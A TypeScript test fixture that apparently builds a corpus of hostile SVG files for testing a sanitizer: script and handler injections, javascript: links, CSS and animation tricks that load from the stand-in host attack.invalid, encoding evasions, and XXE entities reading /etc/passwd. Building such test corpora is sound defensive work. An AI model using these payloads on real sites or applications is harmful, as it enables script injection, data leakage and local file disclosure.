import { Buffer } from 'node:buffer';

/** Where attacks send what they find; no name below `.invalid` exists. */
export const elsewhere = 'https://attack.invalid';

const svgUri = 'http://www.w3.org/2000/svg';
const htmlUri = 'http://www.w3.org/1999/xhtml';
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const js = 'alert(1)';

/** A drawing around `inner`; `attributes` are those of its outermost element. */
export const drawingOf = (inner: string, attributes = '') =>
  `<svg xmlns="${svgUri}" ${xlink} width="90" height="90" viewBox="0 0 90 90" ${attributes}>${inner}</svg>`;

/** A rectangle with a style of its own. */
const styled = (style: string) => drawingOf(`<rect width="9" height="9" style="${style}"/>`);
const sheet = (css: string) => drawingOf(`<style>${css}</style><rect class="a" width="9" height="9"/>`);

const utf16 = (text: string, order: 'le' | 'be') => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
};
const script = `<script>${js}</script>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Attacks by prefixes and namespaces: the same element under other names. */
const namespaces: Record<string, string> = {
  prefix: drawingOf(`<s:script xmlns:s="${svgUri}">${js}</s:script>`),
  'prefix with a dot': drawingOf(`<a.b:script xmlns:a.b="${svgUri}">${js}</a.b:script>`),
  'prefix with hyphens and digits': drawingOf(
    `<a-1.2-:script xmlns:a-1.2-="${svgUri}">${js}</a-1.2-:script>`,
  ),
  'prefix in kanji': drawingOf(`<灯:script xmlns:灯="${svgUri}">${js}</灯:script>`),
  'prefix with a combining mark': drawingOf(`<é:script xmlns:é="${svgUri}">${js}</é:script>`),
  'prefix of another plane': drawingOf(`<𠮷:script xmlns:𠮷="${svgUri}">${js}</𠮷:script>`),
  'prefix with a middle dot': drawingOf(`<a·b:script xmlns:a·b="${svgUri}">${js}</a·b:script>`),
  'prefix of one underscore': drawingOf(`<_:script xmlns:_="${svgUri}">${js}</_:script>`),
  'namespace in character references': drawingOf(
    `<s:script xmlns:s="http://www.w3.org/2000/&#115;vg">${js}</s:script>`,
  ),
  'default namespace HTML': drawingOf(`<script xmlns="${htmlUri}">${js}</script>`),
  'prefixed HTML script': drawingOf(`<h:script xmlns:h="${htmlUri}">${js}</h:script>`),
  'prefix with a dot for HTML': drawingOf(`<x.y:script xmlns:x.y="${htmlUri}">${js}</x.y:script>`),
  'HTML in metadata': drawingOf(`<metadata><h:script xmlns:h="${htmlUri}">${js}</h:script></metadata>`),
  'script in metadata': drawingOf(`<metadata>${script}</metadata>`),
  'script in an editor’s element': drawingOf(
    `<i:box xmlns:i="http://www.inkscape.org/namespaces/inkscape">${script}</i:box>`,
  ),
  'script in title': drawingOf(`<title>${script}</title>`),
  'script in defs': drawingOf(`<defs>${script}</defs>`),
  'script in symbol': drawingOf(`<symbol id="a">${script}</symbol><use href="#a"/>`),
  'script in text': drawingOf(`<text>a${script}</text>`),
  'script in style': drawingOf(`<style>a{}${script}</style>`),
  'prefixed root': `<s:svg xmlns:s="${svgUri}" width="9" height="9"><s:script>${js}</s:script></s:svg>`,
  'prefix taken over within': drawingOf(
    `<g xmlns:i="urn:a"><i:g xmlns:i="${svgUri}"><i:script>${js}</i:script></i:g></g>`,
  ),
  'HTML root with svg within': `<html xmlns="${htmlUri}"><svg xmlns="${svgUri}" width="9" height="9"/>${script}</html>`,
  'XML Events listener': drawingOf(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#a"/><handler id="a">${js}</handler>`,
  ),
  'HTML image with handler': drawingOf(`<h:img xmlns:h="${htmlUri}" src="x" onerror="${js}"/>`),
  'HTML iframe': drawingOf(`<h:iframe xmlns:h="${htmlUri}" src="javascript:parent.alert(1)"/>`),
  'HTML meta refresh': drawingOf(
    `<h:meta xmlns:h="${htmlUri}" http-equiv="refresh" content="0;url=${elsewhere}/"/>`,
  ),
  'HTML link to a style sheet': drawingOf(
    `<h:link xmlns:h="${htmlUri}" rel="stylesheet" href="${elsewhere}/a.css"/>`,
  ),
  'HTML base': drawingOf(
    `<h:base xmlns:h="${htmlUri}" href="${elsewhere}/"/><image href="a.png" width="9" height="9"/>`,
  ),
};

/** Elements and attributes that run or ask, each by its plain name. */
const elementsAndHandlers: Record<string, string> = {
  script: drawingOf(script),
  'script by address': drawingOf(`<script href="${elsewhere}/a.js"/>`),
  'script by xlink': drawingOf(`<script xlink:href="data:text/javascript,alert(1)"/>`),
  'script in CDATA': drawingOf(`<script><![CDATA[${js}]]></script>`),
  'module script': drawingOf(`<script type="module">${js}</script>`),
  onload: drawingOf('', `onload="${js}"`),
  'onload of an inner svg': drawingOf(`<svg onload="${js}"/>`),
  'ONLOAD in capitals': drawingOf('', `ONLOAD="${js}"`),
  'onload in references': drawingOf('', `onload="&#97;lert(1)"`),
  'onclick of a group': drawingOf(`<g onclick="${js}"><rect width="90" height="90"/></g>`),
  'onbegin of an animation': drawingOf(`<animate attributeName="x" begin="0s" onbegin="${js}"/>`),
  'onend of a set': drawingOf(`<set attributeName="x" to="1" dur="1ms" onend="${js}"/>`),
  'onerror of an image': drawingOf(`<image href="data:image/png;base64,AAAA" onerror="${js}"/>`),
  onfocusin: drawingOf(`<g tabindex="0" onfocusin="${js}"><rect width="9" height="9"/></g>`),
  'handler in an editor’s element': drawingOf(`<i:x xmlns:i="urn:x" onload="${js}"/>`),
  'handler of an event nobody knows yet': drawingOf(`<rect onsomethingnew="${js}"/>`),
  foreignObject: drawingOf(
    `<foreignObject width="9" height="9"><body xmlns="${htmlUri}" onload="${js}"/></foreignObject>`,
  ),
  'foreignObject in a switch': drawingOf(
    `<switch><foreignObject width="9" height="9"><iframe xmlns="${htmlUri}" srcdoc="&lt;script>parent.alert(1)&lt;/script>"/></foreignObject><g/></switch>`,
  ),
  'foreignObject that asks for HTML': drawingOf(
    `<foreignObject requiredExtensions="${htmlUri}" width="9" height="9"><h:img xmlns:h="${htmlUri}" src="${elsewhere}/a.png"/></foreignObject>`,
  ),
  'foreignObject of Illustrator with HTML': drawingOf(
    `<foreignObject requiredExtensions="http://ns.adobe.com/x/" width="9" height="9"><h:script xmlns:h="${htmlUri}">${js}</h:script></foreignObject>`,
  ),
  audio: drawingOf(`<audio src="${elsewhere}/a.mp3" autoplay="autoplay"/>`),
  'video in SVG 1.2': drawingOf(`<video xlink:href="${elsewhere}/a.mp4"/>`),
  'iframe in SVG': drawingOf(`<iframe src="${elsewhere}/"/>`),
  'an element nobody knows yet': drawingOf('<portal href="#"/>'),
};

/** Addresses that lead out of the drawing. */
const addresses: Record<string, string> = {
  'link with javascript': drawingOf(`<a href="javascript:${js}"><rect width="90" height="90"/></a>`),
  'link by xlink with javascript': drawingOf(`<a xlink:href="javascript:${js}"><text y="9">a</text></a>`),
  'javascript in references': drawingOf(`<a href="jav&#x61;script&#58;${js}"><text y="9">a</text></a>`),
  'javascript with a tab': drawingOf(`<a href="java&#9;script:${js}"><text y="9">a</text></a>`),
  'javascript behind a control character': drawingOf(
    `<a href=" &#x20;javascript:${js}"><text y="9">a</text></a>`,
  ),
  'link with data': drawingOf('<a href="data:text/html,a"><text y="9">a</text></a>'),
  'link to another site': drawingOf(`<a href="${elsewhere}/"><text y="9">a</text></a>`),
  'link under a prefix with a dot': drawingOf(
    `<a xmlns:x.l="http://www.w3.org/1999/xlink" x.l:href="javascript:${js}"><text y="9">a</text></a>`,
  ),
  'image of another site': drawingOf(`<image href="${elsewhere}/a.png" width="9" height="9"/>`),
  'image by xlink': drawingOf(`<image xlink:href="${elsewhere}/a.png" width="9" height="9"/>`),
  'image under a prefix in kanji': drawingOf(
    `<image xmlns:絵="http://www.w3.org/1999/xlink" 絵:href="${elsewhere}/a.png" width="9" height="9"/>`,
  ),
  'image without a protocol': drawingOf('<image href="//attack.invalid/a.png" width="9" height="9"/>'),
  'image with backslashes': drawingOf('<image href="\\\\attack.invalid\\a.png" width="9" height="9"/>'),
  'image beside the file': drawingOf('<image href="other.png" width="9" height="9"/>'),
  'image that is SVG': drawingOf(
    `<image href="data:image/svg+xml;base64,${base64(drawingOf(script))}" width="9" height="9"/>`,
  ),
  'image that is HTML': drawingOf(
    `<image href="data:text/html,${script.replace(/</g, '&lt;')}" width="9" height="9"/>`,
  ),
  'both addresses, the second one harmless': drawingOf(
    `<image href="#a" xlink:href="${elsewhere}/a.png" width="9" height="9"/>`,
  ),
  'use of another file': drawingOf(`<use href="${elsewhere}/a.svg#a"/>`),
  'use of a file beside it': drawingOf('<use xlink:href="other.svg#a"/>'),
  'use of data': drawingOf(
    `<use href="data:image/svg+xml;base64,${base64(drawingOf(`<g id="a">${script}</g>`))}#a"/>`,
  ),
  'gradient of another file': drawingOf(
    `<linearGradient id="a" href="${elsewhere}/a.svg#g"/><rect fill="url(#a)"/>`,
  ),
  'pattern of another file': drawingOf(`<pattern id="a" xlink:href="${elsewhere}/a.svg#g"/>`),
  'path of text in another file': drawingOf(
    `<text><textPath href="${elsewhere}/a.svg#p">a</textPath></text>`,
  ),
  'picture in a filter': drawingOf(
    `<filter id="f"><feImage href="${elsewhere}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'path of a movement in another file': drawingOf(
    `<rect><animateMotion dur="1s"><mpath href="${elsewhere}/a.svg#p"/></animateMotion></rect>`,
  ),
};

/** Style sheets, style attributes and attributes that are CSS. */
const css: Record<string, string> = {
  '@import': sheet(`@import "${elsewhere}/a.css";`),
  '@import url': sheet(`@import url(${elsewhere}/a.css);`),
  '@import with escapes': sheet(`@\\69mport "${elsewhere}/a.css";`),
  '@import with long escapes': sheet(`@\\000069 mport "${elsewhere}/a.css";`),
  '@IMPORT in capitals': sheet(`@IMPORT "${elsewhere}/a.css";`),
  '@import behind a comment': sheet(`/* */@import/* */"${elsewhere}/a.css";`),
  '@import in CDATA': drawingOf(`<style><![CDATA[@import "${elsewhere}/a.css";]]></style>`),
  '@import in pieces of CDATA': drawingOf(`<style>@im<![CDATA[port "${elsewhere}]]>/a.css";</style>`),
  '@import in references': drawingOf(`<style>&#64;import "${elsewhere}/a.css";</style>`),
  '@font-face': sheet(`@font-face{font-family:a;src:url(${elsewhere}/a.woff2)}text{font-family:a}`),
  '@font-face with src()': sheet(`@font-face{font-family:a;src:src("${elsewhere}/a.woff2")}`),
  '@namespace': sheet(`@namespace url(${elsewhere}/);`),
  '@document': sheet('@document url("http://a") {a{}}'),
  '@layer import': sheet(`@layer a; @import "${elsewhere}/a.css";`),
  '@media around a picture': sheet(`@media all{.a{fill:url(${elsewhere}/#a)}}`),
  '@supports around a picture': sheet(`@supports (fill:red){.a{mask:url("${elsewhere}/a.svg#m")}}`),
  '@keyframes with a picture': sheet(`@keyframes k{to{mask:url(${elsewhere}/a.svg#m)}}.a{animation:k 1s}`),
  'rules in rules': sheet(`.a{fill:red;&amp;:hover{mask:url(${elsewhere}/a.svg#m)}}`),
  'fill by address': styled(`fill:url(${elsewhere}/a.svg#a)`),
  'fill by quoted address': styled(`fill:url('${elsewhere}/a.svg#a')`),
  'fill by address in capitals': styled(`FILL:URL(${elsewhere}/a.svg#a)`),
  'url with an escape': styled(`fill:u\\72l(${elsewhere}/a.svg#a)`),
  'url with long escapes': styled(`fill:\\000075\\000072\\00006c(${elsewhere}/a.svg#a)`),
  'url with escapes in the address': styled('fill:url(\\68ttps://attack.invalid/a.svg#a)'),
  'url with spaces and comments': styled(`fill:/* */url(  ${elsewhere}/a.svg#a  )`),
  'url in references': styled(`fill:&#117;rl(${elsewhere}/a.svg#a)`),
  'background with escape': styled(`b\\61 ckground:u\\72l(${elsewhere}/a.png)`),
  'background of the outermost element': drawingOf('', `style="background:url(${elsewhere}/a.png)"`),
  'image-set': drawingOf('', `style="background:image-set('${elsewhere}/a.png' 1x)"`),
  '-webkit-image-set': drawingOf('', `style="background:-webkit-image-set(url(${elsewhere}/a.png) 1x)"`),
  'image-set in mask': styled(`mask:image-set('${elsewhere}/a.png' 1x)`),
  'image()': styled(`mask-image:image('${elsewhere}/a.png')`),
  'cross-fade': drawingOf('', `style="background:cross-fade(url(${elsewhere}/a.png),red)"`),
  mask: styled(`mask:url(${elsewhere}/a.svg#m)`),
  'clip-path': styled(`clip-path:url(${elsewhere}/a.svg#c)`),
  filter: styled(`filter:url(${elsewhere}/a.svg#f)`),
  markers: drawingOf(`<path d="M0 0L9 9" style="marker:url(${elsewhere}/a.svg#m)"/>`),
  cursor: styled(`cursor:url(${elsewhere}/a.cur),auto`),
  'cursor as attribute': drawingOf(`<rect width="90" height="90" cursor="url(${elsewhere}/a.cur),auto"/>`),
  content: sheet(`svg::before{content:url(${elsewhere}/a.png)}`),
  'list-style-image': styled(`list-style-image:url(${elsewhere}/a.png)`),
  'border-image': drawingOf('', `style="border-image:url(${elsewhere}/a.png) 1"`),
  'shape-outside': styled(`shape-outside:url(${elsewhere}/a.png)`),
  'variable with an address': sheet(`svg{--a:url(${elsewhere}/a.svg#m)}.a{mask:var(--a)}`),
  'variable with an image-set': sheet(`svg{--a:image-set('${elsewhere}/a.png' 1x);background:var(--a)}`),
  'behavior and -moz-binding': styled(
    `behavior:url(${elsewhere}/a.htc);-moz-binding:url(${elsewhere}/a.xml#a)`,
  ),
  expression: styled('width:expression(alert(1))'),
  'attribute with address': drawingOf(`<rect width="9" height="9" fill="url(${elsewhere}/a.svg#a)"/>`),
  'attribute with escape': drawingOf(`<rect width="9" height="9" mask="u\\72l(${elsewhere}/a.svg#m)"/>`),
  'attribute with quotes': drawingOf(`<rect width="9" height="9" filter='url("//attack.invalid/a.svg#f")'/>`),
  'attribute with image-set': drawingOf(
    `<rect width="9" height="9" mask="image-set('${elsewhere}/a.png' 1x)"/>`,
  ),
  'geometry with an address': drawingOf(`<rect width="url(${elsewhere}/)" height="9"/>`),
  'attr()': drawingOf(`<g data-a="${elsewhere}/a.svg#m" style="mask:attr(data-a type(&lt;url&gt;))"/>`),
  'element that ends the sheet': drawingOf(
    `<style>a{fill:red}</style><style>@import "${elsewhere}/a.css";</style>`,
  ),
  'sheet of a type nobody asked for': drawingOf(
    `<style type=" text/css ">@import "${elsewhere}/a.css";</style>`,
  ),
  'string that ends the rule': sheet(
    `.a{font-family:"}@import '${elsewhere}/a.css';{"}@import "${elsewhere}/b.css";`,
  ),
};

/** Animations that set what the file itself must not say. */
const animations: Record<string, string> = {
  'set href': drawingOf(
    `<a><set attributeName="href" to="javascript:${js}"/><rect width="90" height="90"/></a>`,
  ),
  'set xlink:href': drawingOf(
    `<a><set attributeName="xlink:href" to="javascript:${js}"/><text y="9">a</text></a>`,
  ),
  'animate href by values': drawingOf(
    `<a><animate attributeName="href" values="#a;javascript:${js}" dur="1s" fill="freeze"/><text y="9">a</text></a>`,
  ),
  'animate href from': drawingOf(
    `<image id="i"/><animate href="#i" attributeName="href" from="${elsewhere}/a.png" dur="9s"/>`,
  ),
  'animate href of an image': drawingOf(
    `<image width="9" height="9"><set attributeName="href" to="${elsewhere}/a.png"/></image>`,
  ),
  'animate href of a use': drawingOf('<use><set attributeName="href" to="data:image/svg+xml,a#a"/></use>'),
  'set a handler': drawingOf(`<rect><set attributeName="onclick" to="${js}"/></rect>`),
  'set style': drawingOf(`<rect><set attributeName="style" to="mask:url(${elsewhere}/a.svg#m)"/></rect>`),
  'set mask to': drawingOf(`<rect><set attributeName="mask" to="url(${elsewhere}/a.svg#m)"/></rect>`),
  'animate fill by values': drawingOf(
    `<rect><animate attributeName="fill" values="red;url(${elsewhere}/a.svg#m)" dur="1s"/></rect>`,
  ),
  'set mask with escapes': drawingOf(
    `<rect><set attributeName="mask" to="u\\72l(${elsewhere}/a.svg#m)"/></rect>`,
  ),
  'animate with by': drawingOf(
    `<rect><animate attributeName="filter" by="url(${elsewhere}/a.svg#m)" dur="1s"/></rect>`,
  ),
  'set the address of a script': drawingOf('<set attributeName=" href " to="javascript:alert(1)"/>'),
  'name of the attribute in references': drawingOf(
    `<a><set attributeName="&#104;ref" to="javascript:${js}"/><text y="9">a</text></a>`,
  ),
  'animation of another file’s element': drawingOf(
    `<set href="${elsewhere}/a.svg#a" attributeName="x" to="1"/>`,
  ),
};

/** What stands around the drawing: encodings, document types, entities, instructions. */
const around: Record<string, string | Buffer> = {
  'UTF-16, little end first': utf16(drawingOf(script), 'le'),
  'UTF-16, big end first': utf16(drawingOf(script), 'be'),
  'UTF-16 without a mark': Buffer.from(drawingOf(script), 'utf16le'),
  'UTF-7': `<?xml version="1.0" encoding="UTF-7"?>${drawingOf('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  'declared as UTF-16': `<?xml version="1.0" encoding="UTF-16"?>${drawingOf(script)}`,
  'declared as ISO-2022-JP': `<?xml version="1.0" encoding="ISO-2022-JP"?>${drawingOf('\u001b(J<style>a</style>')}`,
  'declared as EBCDIC': `<?xml version="1.0" encoding="ebcdic-cp-us"?>${drawingOf('')}`,
  'Shift_JIS bytes': Buffer.concat([
    Buffer.from('<?xml version="1.0" encoding="Shift_JIS"?><!-- '),
    Buffer.from([0x83, 0x5c]),
    Buffer.from(` -->${drawingOf(script)}`),
  ]),
  'overlong UTF-8': Buffer.concat([
    Buffer.from(drawingOf('').slice(0, -6)),
    Buffer.from([0xc0, 0xbc]),
    Buffer.from('script/></svg>'),
  ]),
  'entity with a script': `<!DOCTYPE svg [<!ENTITY a "&#60;script>${js}&#60;/script>">]>${drawingOf('&a;')}`,
  'entity with an address': `<!DOCTYPE svg [<!ENTITY a "javascript:${js}">]>${drawingOf('<a href="&a;"><text y="9">a</text></a>')}`,
  'entity of another file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "${elsewhere}/a">]>${drawingOf('&a;')}`,
  'entity of a file of this machine': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${drawingOf('<text>&a;</text>')}`,
  'entity of parameters': `<!DOCTYPE svg [<!ENTITY % a "<!ENTITY b '${js}'>"> %a;]>${drawingOf('&b;')}`,
  'entities of entities': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${drawingOf('<text>&b;</text>')}`,
  'entity that is a namespace': `<!DOCTYPE svg [<!ENTITY n "${svgUri}">]>${drawingOf(`<x:script xmlns:x="&n;">${js}</x:script>`)}`,
  'entity with an address for an image': `<!DOCTYPE svg [<!ENTITY n "http://attack.invalid/a.png">]>${drawingOf('<image href="&n;" width="9" height="9"/>')}`,
  'attribute by document type': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${js}">]>${drawingOf('')}`,
  notation: `<!DOCTYPE svg [<!NOTATION a SYSTEM "${elsewhere}/">]>${drawingOf('')}`,
  'xml-stylesheet': `<?xml-stylesheet href="${elsewhere}/a.css"?>${drawingOf('')}`,
  'xml-stylesheet with XSLT': `<?xml-stylesheet type="text/xsl" href="data:text/xml,a"?>${drawingOf('')}`,
  'xml-stylesheet behind a comment': `<!-- a --><?xml-stylesheet href="${elsewhere}/a.css"?>${drawingOf('')}`,
  'two roots': `${drawingOf('')}${drawingOf(script)}`,
  'open tag': drawingOf(`<script>${js}`),
  'HTML’s way of writing': drawingOf(`<script src=//attack.invalid/a.js></script>`),
  'prefix that is not declared': drawingOf(`<x:script>${js}</x:script>`),
  'two attributes of one name': drawingOf('<image href="#a" href="b"/>'),
  'a zero byte': drawingOf(`<scr\0ipt>${js}</scr\0ipt>`),
  'script in capitals': drawingOf(`<SCRIPT>${js}</SCRIPT>`),
};

const groups = { namespaces, elementsAndHandlers, addresses, css, animations, around };

/** Attacks by drawings, each with a name: none may be published as it is. */
export const svgAttacks: readonly (readonly [name: string, bytes: Buffer])[] = Object.entries(groups).flatMap(
  ([group, attacks]) =>
    Object.entries(attacks).map(([name, attack]) => [`${group}: ${name}`, Buffer.from(attack)] as const),
);
